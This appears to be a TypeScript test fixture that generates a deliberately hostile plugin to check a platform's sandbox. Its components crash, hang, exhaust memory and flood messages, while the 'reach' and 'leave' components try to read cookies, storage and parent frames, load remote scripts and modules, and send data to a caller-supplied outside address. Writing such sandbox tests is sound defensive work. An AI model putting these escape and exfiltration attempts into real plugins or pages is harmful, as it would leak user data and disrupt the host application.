/** A plugin whose components do what they must not, by name. `outside`: an address that nothing may reach. */
export function hostilePlugin(outside: string): Readonly<Record<string, string>> {
  const names = Object.keys(bodies);
  const component = (name: string): string => `
const ${name} = implementComponent(
  defineComponent({
    id: 'hostile/${name}',
    version: 1,
    title: 'Hostile ${name}',
    description: 'Does what it must not.',
    icon: 'bug',
    category: 'Hostile',
    placeholder: { height: 60 },
    settings: Type.Object({ table: Type.Optional(setting(Type.Unknown(), { title: 'Table' })) }),
    exposes: { found: Type.Unknown() },
  }),
  async () => (await import('./${name}.tsx')).Hostile,
);`;
  return {
    'fettle.plugin.json': JSON.stringify({
      id: 'hostile',
      version: '1.0.0',
      title: 'Hostile',
      description: 'Does what it must not.',
      sdk: '^0.1.0',
      permissions: {},
    }),
    'src/components.ts': `import { defineComponent, setting, Type } from '@fettle/sdk';
import { implementComponent } from '@fettle/sdk/react';
${names.map(component).join('\n')}
export const components = [${names.join(', ')}];
`,
    ...Object.fromEntries(
      Object.entries(bodies).map(([name, body]) => [
        `src/${name}.tsx`,
        `import { useEffect, useState } from 'react';
import { useHost } from '@fettle/sdk/react';
const outside = ${JSON.stringify(outside)};
${body}`,
      ]),
    ),
  };
}

const bodies: Readonly<Record<string, string>> = {
  crash: `let tries = 0;
export function Hostile() {
  tries += 1;
  throw new TypeError('It broke on purpose.');
}`,
  loop: `export function Hostile() {
  useEffect(() => { setTimeout(() => { for (;;); }, 300); }, []);
  return <p>Begins to loop</p>;
}`,
  hang: `for (;;);
export function Hostile() { return null; }`,
  memory: `export function Hostile() {
  useEffect(() => {
    const kept = [];
    const more = () => {
      for (let index = 0; index < 200; index += 1) kept.push(Array.from({ length: 20_000 }, (_, at) => ({ at })));
      setTimeout(more, 0);
    };
    more();
  }, []);
  return <p>Takes memory</p>;
}`,
  flood: `export function Hostile() {
  const host = useHost();
  useEffect(() => { const more = () => { for (let n = 0; n < 500; n += 1) host.expose({ found: n }); setTimeout(more, 0); }; more(); }, [host]);
  return <p>Floods</p>;
}`,
  reach: `const attempt = async (work) => {
  try {
    const value = await work();
    return 'got ' + String(value).slice(0, 80);
  } catch (error) {
    return 'refused ' + (error.name ?? error.code);
  }
};
export function Hostile({ settings }) {
  const host = useHost();
  const [found, setFound] = useState();
  useEffect(() => {
    void (async () => {
      const results = {
        parentDocument: await attempt(() => window.parent.document.title),
        topDocument: await attempt(() => window.top.document.title),
        topLocation: await attempt(() => window.top.location.href),
        cookies: await attempt(() => document.cookie),
        localStorage: await attempt(() => localStorage.length),
        sessionStorage: await attempt(() => sessionStorage.length),
        indexedDb: await attempt(() => new Promise((done, fail) => { const open = indexedDB.open('x'); open.onsuccess = () => done('opened'); open.onerror = () => fail(open.error); })),
        fetchOutside: await attempt(() => fetch(outside + '/fetch')),
        fetchApi: await attempt(async () => (await fetch(new URL('/api/session', document.referrer || 'http://127.0.0.1'))).status),
        beacon: await attempt(() => { if (!navigator.sendBeacon(outside + '/beacon', 'x')) throw new TypeError('no'); return true; }),
        socket: await attempt(() => new Promise((done, fail) => { const one = new WebSocket(outside.replace('http', 'ws') + '/socket'); one.onopen = () => done('open'); one.onerror = () => fail(new TypeError('closed')); })),
        image: await attempt(() => new Promise((done, fail) => { const image = new Image(); image.onload = () => done('loaded'); image.onerror = () => fail(new TypeError('blocked')); image.src = outside + '/image.png'; })),
        script: await attempt(() => new Promise((done, fail) => { const script = document.createElement('script'); script.onload = () => done('loaded'); script.onerror = () => fail(new TypeError('blocked')); script.src = outside + '/script.js'; document.head.append(script); })),
        imported: await attempt(() => import(/* @vite-ignore */ outside + '/module.js')),
        evaluated: await attempt(() => new Function('return 1')()),
        worker: await attempt(() => new Promise((done, fail) => { const one = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); one.onmessage = () => done('ran'); one.onerror = () => fail(new TypeError('blocked')); })),
        opened: await attempt(() => { if (window.open(outside + '/open') === null) throw new TypeError('blocked'); return 'opened'; }),
        navigatedTop: await attempt(() => { window.top.location.href = outside + '/top'; return 'asked'; }),
        table: await attempt(() => host.data.list(settings.table, { limit: 1 })),
      };
      const form = document.createElement('form');
      form.action = outside + '/form';
      document.body.append(form);
      form.submit();
      host.navigate({ url: outside + '/navigate' });
      host.expose({ found: results });
      setFound(results);
    })();
  }, []);
  return <pre>{found === undefined ? 'Tries…' : JSON.stringify(found, null, 1)}</pre>;
}`,
  leave: `export function Hostile() {
  useEffect(() => { setTimeout(() => { location.href = outside + '/leave?secret=1'; }, 200); }, []);
  return <p>Leaves</p>;
}`,
};
